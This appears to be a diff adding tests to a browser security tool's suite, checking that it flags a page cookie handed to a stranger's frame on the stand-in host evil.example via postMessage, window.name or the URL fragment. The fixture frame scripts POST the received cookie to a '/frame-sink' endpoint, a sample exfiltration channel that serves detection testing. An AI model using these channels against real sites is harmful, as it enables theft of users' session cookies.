@@ -895,6 +895,54 @@ describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
     expect(describeVerdicts(noisy)).toEqual([]);
   });
 
+  // A stranger's frame handed the cookie with nothing in the request the page makes: [fixture, how, the frame's page,
+  // the rule]. A message to another origin's window cannot be hooked (the caller's realm makes its postMessage
+  // anew): the frame is reported as a request to a stranger (a warning), critical where the cookie was read before
+  // the frame was made or rides in its address.
+  const STRANGER_FRAMES: Array<[MainWorldScript, string, string, string]> = [
+    [
+      'stranger-frame-message',
+      'by postMessage',
+      "addEventListener('message', (e) => fetch('/frame-sink', { method: 'POST', body: String(e.data) }));",
+      'SAQ-EXF-001',
+    ],
+    ['stranger-frame-name', 'as its name', "fetch('/frame-sink', { method: 'POST', body: window.name });", 'SAQ-EXF-003'],
+    [
+      'stranger-frame-fragment',
+      "in its address's fragment, set once it is in the page",
+      "fetch('/frame-sink', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) });",
+      'SAQ-EXF-003',
+    ],
+  ];
+  for (const [fixture, how, framePage, rule] of STRANGER_FRAMES)
+    it(`catches the cookie handed to a stranger's frame ${how}`, async ({ task }) => {
+      const page = fixture.replace('stranger-', '');
+      context.shop.setFixture(`/${page}.html`, `<!doctype html><script>${framePage}</script>`, {
+        host: 'evil.example',
+        contentType: 'text/html; charset=utf-8',
+      });
+      serve(context, fixture);
+      const saq = await browser();
+      const { tabId } = await visit(saq, `${PRODUCT}?saq-tag=${fixture}`);
+      const verdict = await maybeVerdict(saq, tabId, rule, (v) =>
+        String(v.finding.evidence.url).startsWith(`https://evil.example/${page}.html`),
+      );
+      recordCase(task, {
+        behaviour: BEHAVIOUR,
+        case: `cookie handed to a stranger's frame ${how}`,
+        malicious: true,
+        flagged: verdict !== null,
+        browser: browserName,
+      });
+      expect(verdict?.finding.actor.url).toBe(helper(fixture));
+      // The frame did send it: the channel is real, not a frame that only loaded.
+      await eventually(
+        async () => context.shop.requests.some((r) => r.host === 'evil.example' && r.path === '/frame-sink' && r.body.includes('=')),
+        (sent) => sent,
+        "the frame's request with the cookie",
+      );
+    });
+
   it('stays silent for a payment form the shop posts to its payment provider', async ({ task }) => {
     context.shop.setFixture(
       '/kz/pay-embedded',
